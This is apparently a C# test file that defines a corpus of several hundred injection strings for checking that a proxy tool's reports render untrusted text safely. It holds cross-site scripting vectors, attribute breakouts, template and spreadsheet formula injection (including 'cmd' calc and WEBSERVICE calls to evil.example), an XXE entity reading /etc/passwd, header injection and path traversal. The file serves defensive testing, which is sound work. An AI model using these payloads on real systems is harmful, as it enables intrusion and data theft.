namespace ProxyGuard.Testing.Attacks;

/// <summary>
/// Texts that try to be more than text wherever a report is shown. Whatever of them runs in a browser calls <c>attack()</c>. They are short
/// enough for the fields they go into.
/// </summary>
public static class AttackCorpus
{
    // What runs, once it is markup.
    private static readonly string[] Vectors =
    [
        "<script>attack()</script>", "<ScRiPt>attack()</sCrIpT>", "<script/x>attack()</script>", "<script>attack()//", "<img src=x onerror=attack()>",
        "<img/src=x/onerror=attack()>", "<IMG SRC=x ONERROR=\"attack()\">", "<svg onload=attack()>", "<svg/onload=attack()>",
        "<svg><script>attack()</script></svg>", "<svg><animate onbegin=attack() attributeName=x dur=1s>", "<body onload=attack()>",
        "<details open ontoggle=attack()>", "<video><source onerror=attack()>", "<audio src=x onerror=attack()>", "<input autofocus onfocus=attack()>",
        "<select autofocus onfocus=attack()>", "<iframe srcdoc=\"<script>parent.attack()</script>\">", "<iframe src=javascript:parent.attack()>",
        "<object data=javascript:attack()>", "<embed src=javascript:attack()>", "<a href=javascript:attack() autofocus onfocus=attack()>x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=attack()>", "<style>@import 'javascript:attack()';</style>",
        "<link rel=stylesheet href=\"data:text/css,*{background:red}\">", "<meta http-equiv=refresh content=\"0;url=javascript:attack()\">",
        "<base href=//evil.example/>", "<form action=javascript:attack()><button autofocus onfocus=attack()>x", "<template><script>attack()</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=attack()>\">",
    ];

    // What it would have to get out of first.
    private static readonly string[] Closers =
    [
        "", "\">", "'>", "</title>", "</textarea></code></pre>", "--><!-- -->", "]]>", "</td></tr></tbody></table>", "\\\"}]</script>", "</style></svg></text>",
        "x\n\n", "\u2028`|\n",
    ];

    private static readonly string[] Attributes =
    [
        "\" onmouseover=\"attack()\" x=\"", "' onmouseover='attack()", "\" autofocus onfocus=attack() x=\"", "\" style=\"background:url(javascript:attack())",
        "`onmouseover=attack()`", "\"onload=\"attack()", "x onpointerenter=attack()", "&quot; onclick=&quot;attack()", "&#34; onfocus=&#34;attack()&#34; autofocus",
        "\t\"\tonfocus\t=\tattack()\tautofocus\t\"",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:attack()", "JaVaScRiPt:attack()", "java\tscript:attack()", "java\nscript:attack()", "\u0001javascript:attack()", " javascript:attack()",
        "javascript&colon;attack()", "javascript%3Aattack()", "data:text/html,<script>attack()</script>", "data:image/svg+xml,<svg onload=attack()>",
        "vbscript:attack()", "//evil.example/x", "https://evil.example/\"onmouseover=\"attack()", "https://evil.example/'><script>attack()</script>",
        "https://evil.example/?q=</script><script>attack()</script>", "https://evil.example/#javascript:attack()", "feed:javascript:attack()", "file:///etc/passwd",
    ];

    private static readonly string[] Templates =
    [
        "{{attack}}", "{{{attack}}}", "{{> _head}}", "{{#each Runs}}x{{/each}}", "{{{{raw}}}}x{{{{/raw}}}}", "{{& attack}}", "{{!-- x --}}", "{{T.Tag}}", "{{@root.Frame}}",
        "${attack()}", "#{attack()}", "<%= attack() %>", "[[attack()]]", "*{attack()}", "@attack()", "@{attack();}", "{% raw %}", "{0}{1}", "%s%n%x", "$(attack)",
    ];

    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "=HYPERLINK(\"https://evil.example\",\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", "=IMPORTXML(\"https://evil.example\",\"//a\")",
        "a\r\n=1+1,=2+2", "\"\n=1+1", "\",=1+1,\"", ";=1+1", "a;=1+1", "\uff1d1+1", "\u200b=1+1", "-2+3+cmd|' /C calc'!A0", "=WEBSERVICE(\"https://evil.example\")", "'=1+1",
    ];

    private static readonly string[] Breakers =
    [
        // JSON
        "\"}", "\\", "\\\"", "\\u0022", "\"],\"x\":[", "</script>", "\u2028\u2029", "null", "__proto__", "{\"a\":1}", "/*", "*/", "//", "\\u003cscript\\u003e",

        // XML, Atom, SVG
        "]]>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "&e;", "&lt;script&gt;", "&#x3c;script&#x3e;", "&amp;lt;", "<?xml version=\"1.0\"?>",
        "<?xml-stylesheet href=\"javascript:attack()\"?>", "<foreignObject><body onload=attack()>", "<entry><title>x</title></entry>", "</content></entry></feed>", "\ufffe\uffff",
        "<set attributeName=href to=javascript:attack()>", "<use href=\"data:image/svg+xml,<svg id='x' onload='attack()'/>#x\">",

        // Lines, headers
        "\r\nSet-Cookie: x=1", "\r\n\r\n<script>attack()</script>", "%0d%0aX: 1", "\n::set-env name=X::1", "\u0085x", "\u000bx\u000c", "\rx",

        // What is not seen or no character
        "\u202e)(kcatta", "\u2066x\u2069", "zero\u200bwidth", "\ufeff<script>", "\u00ad", "\U000e0041", "\ue000", "e\u0301\u0301\u0301\u0301", "\ufdfd", "\u3164", "\ufffd", "\u0000<script>", "\u001b[2J",

        // Places
        "../../../etc/passwd", "..\\..\\x", "~", "!2F", "%2e%2e%2f", "?lang=zh&x=<script>attack()</script>", "#x", "constructor", "toString", "CON", "a'b\"c`d<e>f&g",
    ];

    /// <summary>All of them; at least 500.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Closers.SelectMany(closer => Vectors.Select(vector => closer + vector))
            .Concat(Attributes).Concat(Addresses).Concat(Templates).Concat(Formulas).Concat(Breakers)
            .Concat(HostileMarkdown.All.Where(text => text.Length is > 0 and <= 90 && !text.StartsWith("\n\n", StringComparison.Ordinal) && IsWhole(text)))
            .Distinct(StringComparer.Ordinal),
    ];

    // No JSON in UTF-8 can carry half a character.
    private static bool IsWhole(string text) => !text.EnumerateRunes().Contains(System.Text.Rune.ReplacementChar);
}
